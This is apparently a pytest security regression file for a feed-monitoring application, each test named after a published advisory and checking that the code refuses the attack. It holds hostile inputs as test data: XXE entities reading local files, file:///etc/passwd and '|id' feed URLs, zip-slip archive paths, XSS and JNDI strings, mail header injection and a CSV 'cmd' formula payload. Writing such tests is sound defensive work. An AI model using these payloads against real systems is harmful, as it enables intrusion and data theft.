"""What went wrong in programs like this one, tried on this one: each test bears the name of the advisory that it is about.

The advisories that the page touches are tried in tests/test_web_guard.py, those about names and redirects in tests/test_adapters_http.py.
"""

import ast
import io
import re
import zipfile
from dataclasses import replace
from email.message import EmailMessage
from importlib.metadata import version
from pathlib import Path

import pytest

import monitor
from monitor.adapters.feeds import parse_feed
from monitor.adapters.http import Request
from monitor.adapters.opml import read_opml
from monitor.domain.alerts.alert import make_alert
from monitor.domain.alerts.message import web_address
from monitor.domain.alerts.rendering.alerts import render
from monitor.domain.archive.sheet import cell
from monitor.domain.feeds.address import mask_url, why_not_asked
from monitor.domain.feeds.feed import FeedKind, FeedSettings
from monitor.errors import FetchError, StoreError
from monitor.settings import load
from monitor.store import backup
from tests.alerts import ARTICLE, CONTEXT, DECISION, DESK, MATCH, NOON
from tests.hostile.feeds import rss, titled
from tests.hostile.stand import Stand
from tests.hostile_web import reply

WIRE = FeedSettings(url="http://wire.example/", name="wire", publisher="Wire")
SOURCE = Path(monitor.__file__).parent


@pytest.fixture(scope="module")
def stand(tmp_path_factory):
    with Stand(tmp_path_factory.mktemp("stand")) as ready:
        yield ready


def told(**changes):
    """The message of an alert about an article that an attacker wrote."""
    return render(make_alert(replace(ARTICLE, **changes), MATCH, replace(DECISION, novelties=()), CONTEXT, NOON), DESK)


# ── the network ───────────────────────────────────────────────────────────────


def test_miniflux_cve_2026_21885_nothing_that_a_feed_names_is_fetched(stand):
    inside = f"http://127.6.6.6:{stand.trap}"
    extras = (
        f"<enclosure url='{inside}/a.mp3' type='audio/mpeg' length='1'/><comments>{inside}/c</comments><source url='{inside}/s'>s</source>"
    )
    channel = f"<image><url>{inside}/i.png</url></image><docs>{inside}/d</docs><cloud domain='127.6.6.6' port='{stand.trap}' path='/'/>"
    assert stand.feed(rss(f"<title>t</title><guid>1</guid>{extras}", inside=channel)) == "ok 1"
    assert stand.trapped == 0


def test_miniflux_cve_2026_108735_a_proxy_of_the_environment_is_passed_over(stand, monkeypatch):
    for name in ("http_proxy", "HTTP_PROXY", "https_proxy", "ALL_PROXY"):
        monkeypatch.setenv(name, f"http://127.6.6.6:{stand.trap}")
    assert stand.feed(titled("t")) == "ok 1"
    assert stand.trapped == 0


def test_miniflux_cve_2026_108735_a_proxy_of_a_feed_opens_no_inner_address(stand):
    with pytest.raises(FetchError, match=r"10\.0\.0\.1") as error:
        stand.web.get(Request("http://10.0.0.1/", proxy=f"http://127.0.0.1:{stand.server.port}"))
    assert error.value.kind == "refused"


def test_miniflux_cve_2023_27592_an_error_that_repeats_a_bad_address_is_escaped():
    message = told(url="http://a.example/<script>alert(1)</script>", link="http://a.example/<script>alert(1)</script>")
    assert "<script" not in message.html


@pytest.mark.parametrize("url", ["source:file:///etc/passwd", "file:/etc/passwd", "file:../etc/passwd", "FILE:///etc/passwd"])
def test_changedetection_cve_2024_51483_no_way_to_write_a_file_is_an_address(stand, url):
    assert stand.ask(url) in ("refused 0", "error 0")
    assert web_address(url) is None


def test_changedetection_ghsa_rph4_96w6_q594_a_host_that_two_parsers_read_differently_is_not_asked(stand):
    assert why_not_asked(f"http://127.6.6.6:{stand.trap}\\@127.0.0.1/")
    assert stand.ask(f"http://127.0.0.1:{stand.server.port}\\@127.6.6.6:{stand.trap}/") in ("refused 0", "error 0")
    assert stand.trapped == 0


@pytest.mark.parametrize("host", ["100.64.0.1", "224.0.0.1", "[2002:7f06:606::1]", "[64:ff9b::7f06:606]", "192.88.99.1"])
def test_changedetection_ghsa_gwph_fp79_379w_ranges_that_are_not_private_but_not_public_are_refused(stand, host):
    assert stand.ask(f"http://{host}/") == "refused 0"


def test_rsshub_cve_2021_21278_a_redirect_inside_is_neither_followed_nor_remembered(stand):
    stand.answers["/feed"] = reply(b"", "301 Moved", location=f"http://127.6.6.6:{stand.trap}/")
    with pytest.raises(FetchError) as error:
        stand.web.get(Request(f"{stand.server.url}/feed"))
    assert error.value.kind == "refused"
    assert stand.trapped == 0


def test_ttrss_cve_2020_25787_no_other_scheme_is_followed_to(stand):
    stand.answers["/feed"] = reply(b"", "302 Found", location=f"gopher://127.6.6.6:{stand.trap}/_x")
    assert stand.ask(f"{stand.server.url}/feed") in ("refused 0", "error 0")
    assert stand.trapped == 0


def test_trafilatura_910_only_bytes_are_given_to_it():
    code = "\n".join(path.read_text(encoding="utf-8") for path in SOURCE.rglob("*.py"))
    assert "fetch_url(" not in code
    assert "feedparser.parse(url" not in code


def test_cpython_cve_2025_13836_memory_is_not_asked_for_by_a_length(stand):
    assert stand.raw(b"HTTP/1.1 200 OK\r\nContent-Length: 999999999999\r\n\r\n") == "error 0"


def test_urllib3_cve_2025_66418_one_encoding_is_unpacked_and_no_more(stand):
    assert stand.raw(reply(b"x", content_encoding="gzip, gzip, gzip")) == "error 0"
    assert tuple(map(int, version("urllib3").split(".")[:2])) >= (2, 8), "Apprise sends through it"


def test_a_login_is_shown_nowhere_miniflux_3747e686():
    assert "secret" not in mask_url("https://user:secret@wire.example/feed?api_key=secret")


# ── parsers ───────────────────────────────────────────────────────────────────


@pytest.mark.parametrize("reference", ["&#xD800;", "&#x110000;", "&#xFFFFFFFF;"])
def test_feedparser_599_a_reference_to_no_letter_costs_no_entry(reference):
    assert len(parse_feed(titled(f"A {reference} B"), {}, WIRE).entries) == 1


def test_feedparser_cve_2012_2921_a_doctype_neither_crashes_nor_reads_a_file(stand):
    secret = stand.place / "secret.txt"
    secret.write_text("canary-in-a-file")
    doctype = f"<!DOCTYPE r [<!ENTITY x SYSTEM 'file://{secret}'>]>"
    parsed = stand.children.run(parse_feed, titled("A &x; B").replace(b"<rss", doctype.encode() + b"<rss", 1), {}, WIRE)
    assert "canary" not in str(parsed)


def test_lxml_cve_2026_41066_opml_reads_no_file(tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("canary-in-a-file")
    body = (
        f"<!DOCTYPE o [<!ENTITY x SYSTEM 'file://{secret}'>]><opml><body><outline text='&x;' xmlUrl='http://a.example/'/>&x;</body></opml>"
    )
    try:
        found = str(read_opml(body.encode()))
    except Exception as error:  # noqa: BLE001 (refusing it is as good)
        found = str(error)
    assert "canary" not in found
    assert tuple(map(int, version("lxml").split(".")[:2])) >= (6, 1)


def test_changedetection_cve_2026_29039_a_path_into_json_is_no_language(stand):
    secret = stand.place / "secret.txt"
    secret.write_text("canary-in-a-file")
    fields = {"items": f"unparsed-text('file://{secret}')", "title": f"json-doc('file://{secret}')"}
    settings = replace(WIRE, kind=FeedKind.JSON, fields=fields)
    try:
        found = str(parse_feed(b'{"items": [{"title": "t"}]}', {}, settings))
    except Exception as error:  # noqa: BLE001 (refusing it is as good)
        found = str(error)
    assert "canary" not in found


def test_changedetection_cve_2026_33981_a_parser_sees_no_secret_of_the_environment(monkeypatch):
    from monitor.adapters.children import Children
    from tests.test_adapters_children import environment

    monkeypatch.setenv("DESK_TOKEN", "canary-in-the-environment")
    with Children(1) as children:
        assert "canary" not in str(children.run(environment))


# ── commands, files, templates ────────────────────────────────────────────────


BUILDING = ("os.system", "os.popen", "eval", "exec")


def test_newsbeuter_cve_2017_12904_and_liferea_cve_2023_1350_no_command_is_built_from_outside_text():
    found = []
    for path in SOURCE.rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            names = [alias.name for alias in node.names] if isinstance(node, ast.Import) else []
            names += [node.module or ""] if isinstance(node, ast.ImportFrom) else []
            called = ast.unparse(node.func) if isinstance(node, ast.Call) else ""
            shell = isinstance(node, ast.keyword) and node.arg == "shell"
            if "subprocess" in names or "pty" in names or shell or called in BUILDING or called.startswith("os.spawn"):
                found.append(path.name)
    # Copies on PostgreSQL are made by its own tools: a list of words from the operator, no shell, nothing that a feed said.
    assert found == ["dumps.py"]


def test_newsbeuter_cve_2017_12904_a_command_in_opml_is_no_feed(tmp_path):
    body = f"<opml><body><outline xmlUrl='|touch {tmp_path}/x'/><outline xmlUrl='exec:touch {tmp_path}/x'/></body></opml>"
    assert read_opml(body.encode()) == []


def test_changedetection_cve_2026_25527_an_archive_of_files_is_no_backup(tmp_path):
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("../../evil", "x")
        archive.writestr("/etc/evil", "x")
    (tmp_path / "copy.zip").write_bytes(packed.getvalue())
    with pytest.raises(StoreError):
        backup.restore(f"sqlite:///{tmp_path / 'data' / 'monitor.db'}", tmp_path / "copy.zip")
    assert not (tmp_path.parent / "evil").exists()


TEMPLATES = ["{{7*7}}", "${7*7}", "{0.__class__}", "%(key)s", "#{7*7}", "<%= 7*7 %>", "{key}", "$key", "${jndi:ldap://a.example/x}"]


@pytest.mark.parametrize("template", TEMPLATES)
def test_changedetection_cve_2024_32651_a_template_from_outside_is_text(template):
    message = told(title=f"Launch {template} put off")
    assert template in message.text
    assert "49" not in message.subject


@pytest.mark.parametrize(
    "settings", ['feeds: [{url: "file:///etc/passwd"}]', 'feeds: [{url: "|id"}]', 'feeds: [{url: "source:file:///etc/passwd"}]']
)
def test_changedetection_cve_2024_56509_settings_hold_to_the_same_schemes(tmp_path, settings):
    (tmp_path / "feeds.yaml").write_text(settings)
    (tmp_path / "topic.yaml").write_text("words: [a]")
    with pytest.raises(Exception, match="url"):
        load(tmp_path, tmp_path / "data", {})


# ── what is shown ─────────────────────────────────────────────────────────────


SCRIPTS = ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "</title><svg/onload=alert(1)>", '" onmouseover="alert(1)']


@pytest.mark.parametrize("script", SCRIPTS)
def test_craft_cms_ghsa_qpgm_a_script_in_a_title_is_text(script):
    html = told(title=f"Launch {script}", publisher=script).html
    assert set(re.findall(r"<(\w+)", html)) == set(re.findall(r"<(\w+)", told().html)), "no element of its own"
    assert '" onmouseover' not in html, "and no attribute"


@pytest.mark.parametrize(
    "url", ["javascript:alert(1)", "data:text/html,x", "JaVaScRiPt:alert(1)", "vbscript:x", "http://a.example/'onclick='x"]
)
def test_changedetection_cve_2025_62780_only_the_web_is_linked_to(url):
    assert web_address(url) is None


def test_cpython_cve_2024_6923_a_title_adds_no_header_to_a_mail():
    message = told(title="Launch\r\nBcc: victim@a.example\r\n\r\nevil\x85Bcc: b\u2028Bcc: c")
    assert not {"\r", "\n", "\x85", "\u2028"} & set(message.subject)
    mail = EmailMessage()
    mail["Subject"] = message.subject
    assert mail["Bcc"] is None


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@x", "\t=1", "\r=1", " =1", "＝1", "=cmd|' /C calc'!A0"])
def test_symfony_cve_2021_41270_a_formula_in_a_sheet_is_text(text):
    assert cell(text).startswith("'")
